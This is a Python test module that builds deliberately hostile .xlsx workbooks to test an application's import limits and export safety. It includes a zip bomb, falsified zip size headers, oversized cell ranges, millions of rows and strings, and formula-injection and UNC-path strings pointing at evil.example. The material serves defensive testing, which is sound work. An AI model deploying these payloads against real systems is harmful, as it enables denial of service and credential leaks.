"""Hostile .xlsx workbooks, written by hand (the zip and the XML), for the tests that post them
to every import: each is small on the wire and asks a reader for far more than it looks.

Every builder returns the file's bytes; ``FILES`` names them with what the refusal must say (in
English). The zip writer is this module's own so that a member can lie about its sizes or use
another compression method, which no zip library writes on purpose."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

NS = ('xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"')
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


@dataclass
class Member:
    name: str
    chunks: Iterable[bytes]  # the uncompressed content, streamed
    method: int = 8  # 0 stored, 8 deflated, 12 bzip2 (which Excel never writes)
    declared_size: int | None = None  # what the headers claim it unpacks to (None: the truth)


def zip_bytes(members: list[Member]) -> bytes:
    out, central = bytearray(), bytearray()
    for m in members:
        crc, size, packed = 0, 0, bytearray()
        packer = zlib.compressobj(9, zlib.DEFLATED, -15) if m.method == 8 else None
        for chunk in m.chunks:
            crc, size = zlib.crc32(chunk, crc), size + len(chunk)
            packed += packer.compress(chunk) if packer else chunk
        if packer:
            packed += packer.flush()
        declared = size if m.declared_size is None else m.declared_size
        name = m.name.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, m.method, 0, 0x21, crc, len(packed), declared,
                           len(name), 0) + name + packed
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0x800, m.method, 0, 0x21, crc,
                               len(packed), declared, len(name), 0, 0, 0, 0, 0, offset) + name
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central),
                                 len(out), 0)
    return bytes(out)


def rels(*items: tuple[str, str, str]) -> bytes:
    body = "".join(f'<Relationship Id="{i}" Type="{REL}{kind}" Target="{target}"/>' for i, kind, target in items)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'.encode()


def workbook(sheet: Iterable[bytes], *, sheet_name: str = "Sheet1", strings: Iterable[bytes] | None = None,
             method: int = 8, declared_size: int | None = None) -> bytes:
    """A workbook of one worksheet whose XML is ``sheet`` (streamed), and optionally a
    sharedStrings part."""
    parts = [
        Member("[Content_Types].xml", [b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>']),
        Member("_rels/.rels", [rels(("rId1", "officeDocument", "xl/workbook.xml"))]),
        Member("xl/workbook.xml", [f'<workbook {NS}><sheets><sheet name="{sheet_name}" sheetId="1" r:id="rId1"/>'
                                   f'</sheets></workbook>'.encode()]),
        Member("xl/_rels/workbook.xml.rels", [rels(("rId1", "worksheet", "worksheets/sheet1.xml"))]),
        Member("xl/worksheets/sheet1.xml", sheet, method=method, declared_size=declared_size),
    ]
    if strings is not None:
        parts.append(Member("xl/sharedStrings.xml", strings))
    return zip_bytes(parts)


HEADER = '<row r="1"><c r="A1" t="inlineStr"><is><t>统一社会信用代码</t></is></c></row>'


def header_row(names: list[str]) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}1" t="inlineStr"><is><t>{name}</t></is></c>' for i, name in enumerate(names))
    return f'<row r="1">{cells}</row>'


def _sheet(rows: str, head: str = "") -> list[bytes]:
    return [f"<worksheet {NS}>{head}<sheetData>{HEADER}{rows}</sheetData></worksheet>".encode()]


def far_cell() -> bytes:
    """The header and one cell in XFD1048576: calamine asks for ~550 GB and aborts (1.2 KB)."""
    return workbook(_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def million_rows(header: str = HEADER) -> bytes:
    """1,000,001 rows of one number each, numbered, under ``header``: past every import's row limit."""
    def chunks():
        yield f"<worksheet {NS}><sheetData>{header}".encode()
        for start in range(2, 1_000_002 + 1, 10_000):
            yield "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>'
                          for n in range(start, min(start + 10_000, 1_000_002 + 1))).encode()
        yield b"</sheetData></worksheet>"
    return workbook(chunks())


def million_rows_unnumbered() -> bytes:
    """1,000,001 rows without r (calamine counts them): 100 KB on the wire."""
    def chunks():
        yield f"<worksheet {NS}><sheetData>{HEADER}".encode()
        for _ in range(100):
            yield b"<row><c><v>1</v></c></row>" * 10_000
        yield b"<row><c><v>1</v></c></row></sheetData></worksheet>"
    return workbook(chunks())


def _spaces(megabytes: int):
    yield f"<worksheet {NS}><sheetData>".encode()
    block = (b"<a/>" + b" " * 4092) * 256  # a tag every 4 KB: a run without tags is refused sooner
    for _ in range(megabytes):
        yield block
    yield b"</sheetData></worksheet>"


def zip_bomb() -> bytes:
    """A worksheet of 300 MB of (mostly) spaces in a 300 KB file."""
    return workbook(_spaces(300))


def lying_sizes() -> bytes:
    """The same bomb declaring that it unpacks to 1 KB (a reader trusting the header sees 1 KB)."""
    return workbook(_spaces(300), declared_size=1024)


def declared_range() -> bytes:
    """A small sheet declaring A1:XFD1048576 as its used range."""
    return workbook(_sheet("", head='<dimension ref="A1:XFD1048576"/>'))


def second_r() -> bytes:
    """A cell with two r attributes, the second (the one calamine keeps) far right."""
    return workbook(_sheet('<row r="2"><c r="A2" r = \'XFD2\'><v>1</v></c></row>'))


def wide_without_r() -> bytes:
    """20,000 cells without r in one row: calamine places them one column after another."""
    return workbook(_sheet('<row r="2">' + "<c><v>1</v></c>" * 20_000 + "</row>"))


def prefixed_far_cell() -> bytes:
    """The far cell with a namespace prefix (calamine reads local names)."""
    return workbook(_sheet('<row r="1048576"><x:c xmlns:x="urn:x" r="XFD1048576"><v>1</v></x:c></row>'))


def many_strings() -> bytes:
    """3,500,001 shared strings (calamine loads them all when it opens the workbook)."""
    def strings():
        yield b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        for _ in range(350):
            yield b"<si><t>x</t></si>" * 10_000
        yield b"<si><t>x</t></si></sst>"
    return workbook(_sheet(""), strings=strings())


def bzip2_member() -> bytes:
    """A worksheet compressed with a method Excel never uses."""
    return workbook(_sheet(""), method=12)


# name -> (builder, what the English refusal says)
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "far_cell": (far_cell, "(in row 1,048,576, for one)"),
    "million_rows": (million_rows, "has cells below row"),
    "million_rows_unnumbered": (million_rows_unnumbered, "has cells below row"),
    "zip_bomb": (zip_bomb, "unpacks to more than"),
    "lying_sizes": (lying_sizes, "unpacks to more than"),
    "declared_range": (declared_range, "declares its used range as A1:XFD1048576"),
    "second_r": (second_r, "(in column XFD, for one)"),
    "wide_without_r": (wide_without_r, "has cells right of column"),
    "prefixed_far_cell": (prefixed_far_cell, "(in row 1,048,576, for one)"),
    "many_strings": (many_strings, "different texts"),
    "bzip2_member": (bzip2_member, "packed in a way Excel does not use"),
}


# Texts an export must write as texts: a formula (formula injection), a UNC path XlsxWriter
# would make a file:/// link of (it leaks the Windows credentials of whoever clicks), a web link.
HOSTILE_TEXTS = ['=HYPERLINK("http://evil.example/","点击")', "external:\\\\evil.example\\share", "http://evil.example/"]


def assert_inert(content: bytes, *texts: str) -> None:
    """No formula and no hyperlink anywhere in the workbook, and each text in it as a text cell."""
    import openpyxl

    archive = zipfile.ZipFile(io.BytesIO(content))
    for name in archive.namelist():
        part = archive.read(name)
        assert b"<f>" not in part and b"<f " not in part, f"a formula in {name}"
        assert b"<hyperlink" not in part and b"relationships/hyperlink" not in part, f"a link in {name}"
    book = openpyxl.load_workbook(io.BytesIO(content))
    found = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.data_type == "s"}
    for text in texts:
        assert text in found, f"{text!r} is not a text cell"
